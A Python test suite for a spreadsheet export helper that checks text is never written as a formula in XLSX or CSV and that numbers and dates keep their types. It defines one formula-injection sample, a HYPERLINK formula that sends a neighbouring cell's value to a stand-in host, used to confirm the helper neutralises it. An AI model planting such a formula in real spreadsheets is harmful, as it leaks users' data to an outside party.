"""The export helper: any text comes back as the same visible text and is never a formula; numbers
and dates keep their type; CSV and XLSX mark a dangerous text alike."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from types import SimpleNamespace

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core.spreadsheets import (
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    Column,
    Sheet,
    append,
    clean_text,
    csv_bytes,
    download,
    put,
    save,
    xlsx,
)

ATTACK = '=HYPERLINK("http://example.invalid/?"&A2,"x")'
COLUMNS = [Column("Văn bản", "text"), Column("Số", "number"), Column("Ngày", "day")]


def _read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content))


def _read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@settings(deadline=None)  # a workbook per example; the machine is shared
@given(st.text())
def test_any_text_comes_back_as_the_same_text_and_never_as_a_formula(text):
    row = SimpleNamespace(text=text, number=1, day=date(2025, 1, 2))
    sheet = _read_xlsx(xlsx(Sheet("s", COLUMNS, [row])))["s"]
    got = sheet.cell(row=2, column=1)
    assert got.data_type != "f"
    assert (got.value or "") == clean_text(text)
    # A dangerous start carries the spreadsheet's own "typed after an apostrophe" mark.
    assert got.quotePrefix == clean_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@settings(deadline=None)  # a workbook per example; the machine is shared
@given(st.text())
def test_any_text_in_csv_is_the_text_behind_an_apostrophe_when_dangerous(text):
    text = text.replace("\x00", "")  # the csv module refuses NUL
    row = SimpleNamespace(text=text, number=1, day=None)
    _header, line = _read_csv(csv_bytes(COLUMNS, [row]))
    dangerous = text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert line[0] == ("'" + text if dangerous else text)


def test_a_control_character_cannot_hide_a_formula():
    sheet = _read_xlsx(xlsx(Sheet("s", [Column("A", 0)], [["\x08" + ATTACK]])))["s"]
    assert sheet["A2"].value == ATTACK and sheet["A2"].quotePrefix


def test_numbers_stay_numbers_and_dates_stay_dates():
    rows = [{"text": "-5", "number": Decimal("-5.25"), "day": date(2025, 3, 31)}]
    sheet = _read_xlsx(xlsx(Sheet("s", COLUMNS, rows)))["s"]
    text, number, day = (c for c in sheet[2])
    assert text.value == "-5" and text.data_type == "s" and text.quotePrefix
    assert number.value == -5.25 and number.data_type == "n"
    assert day.value == datetime(2025, 3, 31) and day.is_date
    assert day.number_format == "dd/mm/yyyy"
    assert _read_csv(csv_bytes(COLUMNS, rows))[1] == ["'-5", "-5.25", "31/03/2025"]


def test_columns_read_attributes_keys_positions_and_callables():
    columns = [
        Column("A", 1),
        Column("B", lambda row: row[0] * 2),
        Column("C", 0, number_format="0.00", width=12),
    ]
    book = _read_xlsx(xlsx(Sheet("s", columns, [[3, "x"]], preamble=[["Tiêu đề"]])))
    sheet = book["s"]
    assert [c.value for c in sheet[1]][0] == "Tiêu đề"
    assert [c.value for c in sheet[2]] == ["A", "B", "C"]
    assert sheet["A2"].font.bold
    assert [c.value for c in sheet[3]] == ["x", 6, 3]
    assert sheet["C3"].number_format == "0.00"
    assert sheet.column_dimensions["C"].width == 12
    assert sheet.freeze_panes == "A3"


def test_put_and_append_guard_a_styled_workbook():
    book = Workbook()
    sheet = book.active
    put(sheet, 1, 1, ATTACK)
    put(sheet, 1, 2, 85.123, "0.00")
    append(sheet, [ATTACK, 2])
    sheet = _read_xlsx(save(book)).active
    assert sheet["A1"].value == ATTACK and sheet["A1"].data_type == "s"
    assert sheet["B1"].value == 85.123 and sheet["B1"].number_format == "0.00"
    assert sheet["A2"].value == ATTACK and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 2


def test_download_names_the_file_and_its_type():
    assert download(b"x", "a.xlsx")["Content-Type"] == XLSX_CONTENT_TYPE
    response = download(b"x", "b.csv")
    assert response["Content-Type"] == CSV_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="b.csv"'
